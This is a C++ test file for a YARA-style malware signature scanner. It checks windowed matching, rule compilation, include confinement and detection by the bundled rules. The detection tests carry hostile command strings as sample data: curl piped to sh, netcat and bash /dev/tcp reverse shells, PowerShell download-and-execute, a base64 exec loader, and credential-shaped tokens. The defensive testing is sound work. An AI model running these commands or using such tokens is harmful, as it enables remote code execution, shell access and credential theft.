#include "match/scanner.hpp"

#include "match/pack.hpp"
#include "match/read_sources.hpp"
#include "support/contiguous.hpp"
#include "support/files.hpp"

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <catch2/catch.hpp>

#include <algorithm>
#include <array>
#include <random>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

namespace assay::match {
namespace {

Signatures compiled(std::string text) {
  const RuleSource source{.name = "own.yar", .text = std::move(text)};
  return Signatures::compile(std::span(&source, 1)).value();
}

std::string error_of(std::string text) {
  const RuleSource source{.name = "own.yar", .text = std::move(text)};
  const auto result = Signatures::compile(std::span(&source, 1));
  return result ? "" : result.error().message;
}

using test::matches_in_windows;

bool finds(Scanner& scanner, std::string_view bytes, std::string_view rule) {
  const ByteView view = ByteView::of(bytes);
  RegionWindows windows(view, {{0, view.size()}});
  const auto scanned =
      scanner.scan({.path = "x", .formats = "x", .size = view.size(), .depth = 0, .held = view, .seconds = 0}, windows);
  return std::ranges::any_of(scanned.hits, [&](const Hit& hit) { return hit.signature.name == rule; });
}

}  // namespace

TEST_CASE("windows of any size say what one window says") {
  const auto signatures = compiled(std::string(test::kShortRules));
  std::mt19937 random(1);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same every time
  static constexpr std::string_view kLetters = "abcdxyzqw ord\0i\0e\n";
  for (int round = 0; round < 200; ++round) {
    std::string bytes;
    for (auto size = 100 + random() % 3000; bytes.size() < size;)
      bytes += random() % 40 == 0 ? std::string("word abc aGVsbG8 w\0i\0d\0e\0 x...y", 31)
                                  : std::string(1, kLetters[random() % kLetters.size()]);
    const WindowSizes sizes{.window = 130 + random() % 500, .reach = 64};
    INFO(round);
    CHECK(matches_in_windows(signatures, bytes, sizes) == matches_in_windows(signatures, bytes, {}));
  }
}

TEST_CASE("a string that lies across two windows is found once, at its offset") {
  const auto signatures = compiled("rule r { strings: $a = \"needle\" condition: #a == 1 and @a == 197 }");
  std::string bytes(1000, '.');
  bytes.replace(197, 6, "needle");
  CHECK(matches_in_windows(signatures, bytes, {.window = 200, .reach = 64}) == "r 1: $a@197+6\n");
}

TEST_CASE("words that the bundled pack looks for begin behind what frames a short text") {
  const auto signatures = Signatures::bundled().value();
  // Opcodes of pickle, tags of protobuf and of MessagePack, whose next byte is the length.
  static constexpr std::string_view kFrames = "\x8cUC\x0a\x12\x1a\x22\x2a\x32\x3a\xd9\xc4";
  static constexpr std::array<std::pair<std::string_view, std::string_view>, 6> kTexts{{
      {"curl -s http://198.51.100.7/a | sh ", "shell_download_and_run"},
      {"nc -e /bin/sh 198.51.100.7 4444 ", "reverse_shell_command"},
      {"iwr http://198.51.100.7/a | iex ", "powershell_download_and_run"},
      {"exec(base64.b64decode('aWQ=')) ", "encoded_loader"},
      {"AKIAQYLPMN5HHHFPZAM2 ", "leaked_credential"},
      {"ghp_q3JLhoUFk7GREzKP9AmW2nYxTb5dVc8S4e1Q ", "leaked_credential"},
  }};
  Scanner scanner(signatures);
  for (const auto& [text, rule] : kTexts) {
    INFO(text);
    CHECK(finds(scanner, text, rule));
    CHECK(finds(scanner, "V" + std::string(text), rule));
    for (const char frame : kFrames)
      for (int length = 1; length < 256; ++length) {
        const auto framed = std::string{frame, static_cast<char>(length)} + std::string(text);
        if (finds(scanner, framed, rule)) continue;
        CAPTURE(static_cast<int>(frame), length);
        FAIL_CHECK("not found");
      }
  }
}

TEST_CASE("severities of rules are read whatever the case of their letters, and others are told") {
  const auto list = compiled(
                        "rule a { meta: severity = \"CRITICAL\" condition: true } "
                        "rule b { meta: severity = 90 condition: true } "
                        "rule c { meta: severity = \"warning\" condition: true } rule d { condition: true }")
                        .list();
  const auto find = [&](std::string_view name) { return *std::ranges::find(list, name, &SignatureInfo::name); };
  CHECK(find("a").severity == Severity::critical);
  CHECK(find("a").foreign_severity.empty());
  CHECK(find("b").severity == Severity::medium);
  CHECK(find("b").foreign_severity == "90");
  CHECK(find("c").foreign_severity == "warning");
  CHECK(find("d").foreign_severity.empty());
}

TEST_CASE("what was asked for and has no rule in it is an error") {
  const auto error = [](std::vector<RuleSource> sources) {
    const auto result = Signatures::compile(sources);
    return result ? "" : result.error().message;
  };
  const RuleSource rule{.name = "d/a.yar", .text = "rule r { condition: true }", .origin = "d"};
  const RuleSource comment{.name = "d/b.yar", .text = "// nothing yet", .origin = "d"};
  CHECK(error({rule, comment}).empty());
  CHECK(error({comment}) == "d: there is no rule in it");
  CHECK(error({rule, {.name = "e.yar", .text = "", .origin = "e.yar"}}) == "e.yar: there is no rule in it");
}

TEST_CASE("windows count every byte once and in order") {
  const std::string bytes(5000, 'x');
  for (const std::uint64_t window : {129U, 200U, 1000U, 5000U}) {
    RegionWindows windows(ByteView::of(bytes), {{0, 100}, {150, 3000}, {4000, 1}}, {.window = window, .reach = 64});
    std::uint64_t counted = 0;
    std::uint64_t at = 0;
    while (const auto next = windows.next()) {
      CHECK(next->counted.offset >= at);
      CHECK(next->offset <= next->counted.offset);
      CHECK(next->offset + next->bytes.size() >= next->counted.end());
      CHECK(next->bytes.size() <= window);
      at = next->counted.end();
      counted += next->counted.size;
    }
    CHECK(counted == 3101);
  }
}

TEST_CASE("a rule with a wide gap is listed when it cannot be judged") {
  const auto signatures = compiled("rule gap { strings: $a = { 61 62 63 64 [300-400] 65 66 67 68 } condition: $a }");
  const std::string bytes = "abcd" + std::string(350, '.') + "efgh" + std::string(1000, '.');
  CHECK(matches_in_windows(signatures, bytes, {}).starts_with("gap 1: $a@0+358"));
  const auto split = matches_in_windows(signatures, bytes, {.window = 600, .reach = 64});
  CHECK(split.find("not judged: gap") != std::string::npos);
  Scanner scanner(signatures);
  CHECK(scanner.wants_whole(kWholeUpTo));
  CHECK_FALSE(scanner.wants_whole(kWholeUpTo + 1));
}

TEST_CASE("too many matches are a problem and not silence") {
  const auto signatures = compiled("rule r { strings: $a = \"aa\" condition: #a > 2000000 }");
  const std::string bytes(1'100'000, 'a');
  CHECK(matches_in_windows(signatures, bytes, {}).find("more than 1,000,000 times") != std::string::npos);
}

TEST_CASE("a pack of another version is compiled from its source, to the same rules") {
  const Pack& embedded = embedded_pack();
  Pack other = embedded;
  other.version = "0.0.0";
  other.buffers = {};
  const auto attached = load(embedded).value();
  const auto compiled = load(other).value();
  const auto listed = [](const Signatures& signatures) {
    std::string text;
    for (const auto& one : signatures.list())
      text +=
          fmt::format("{} {} {} {}\n", one.name, one.source, fmt::join(one.tags, ","), fmt::join(one.metadata, ","));
    return text;
  };
  CHECK(listed(attached).find("linux_program assay:bundled") != std::string::npos);
  CHECK(listed(attached) == listed(compiled));
  const std::string bytes = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
  const auto matched = [&](const Signatures& signatures) {
    const ByteView view = ByteView::of(bytes);
    RegionWindows windows(view, {{0, view.size()}});
    Scanner scanner(signatures);
    std::string names;
    for (const auto& hit : scanner.scan({.path = "x", .size = view.size(), .held = view}, windows).hits)
      names += hit.signature.name + " ";
    return names;
  };
  CHECK(matched(attached) == "reverse_shell_command ");
  CHECK(matched(compiled) == "reverse_shell_command ");
}

TEST_CASE("errors of rules say file and line") {
  CHECK(error_of("rule a {\n condition:\n  unknown\n}").starts_with("own.yar:3: "));
  CHECK(error_of("rule a { condition: unknown }").starts_with("own.yar:1: "));
  CHECK(error_of("import \"cuckoo\"\nrule a { condition: true }") == "own.yar:1: the module \"cuckoo\" is not offered");
  CHECK(error_of("import \"magic\"\nrule a { condition: true }") == "own.yar:1: the module \"magic\" is not offered");
  CHECK(error_of(std::string("YARA\0\1\2", 7)).starts_with("own.yar:1: compiled rules are never loaded"));
  CHECK(error_of("import \"pe\"\nimport \"math\"\nrule a { condition: pe.number_of_sections == 1 }").empty());
  CHECK(error_of("include \"/etc/hostname\"").starts_with("own.yar:1: \"/etc/hostname\" cannot be included"));
  CHECK(error_of("rule a {\n condition:\n  true\n").starts_with("own.yar:3: "));
}

TEST_CASE("includes reach what lies below the directory and nothing else") {
  const test::TemporaryFolder folder;
  test::write_file(folder.path() / "rules/main.yar", "include \"part/more.inc\"\nrule a { condition: true }");
  test::write_file(folder.path() / "rules/part/more.inc", "rule b { condition: true }");
  test::write_file(folder.path() / "outside.inc", "rule c { condition: true }");
  const auto sources = read_sources((folder.path() / "rules").string());
  REQUIRE(sources);
  REQUIRE(sources->size() == 1);
  const auto signatures = Signatures::compile(*sources);
  REQUIRE(signatures);
  CHECK(signatures->included().size() == 1);
  test::write_file(folder.path() / "rules/main.yar", "include \"../outside.inc\"");
  CHECK_FALSE(Signatures::compile(read_sources((folder.path() / "rules").string()).value()));
  CHECK_FALSE(read_sources((folder.path() / "nowhere").string()));
  CHECK_FALSE(read_sources((folder.path() / "rules/part").string()));
}

TEST_CASE("threads with scanners of their own share signatures") {
  const auto signatures = compiled("rule piped { strings: $pipe = /curl [^|]{1,60}\\| sh/ condition: $pipe }");
  std::vector<std::string> results(4);
  {
    std::vector<std::jthread> threads;
    for (auto& result : results)
      threads.emplace_back([&] {
        for (int i = 0; i < 50; ++i)
          result = matches_in_windows(signatures, "x curl https://example.invalid/a | sh \n", {});
      });
  }
  for (const auto& result : results) CHECK(result == "piped 1: $pipe@2+35\n");
}

}  // namespace assay::match
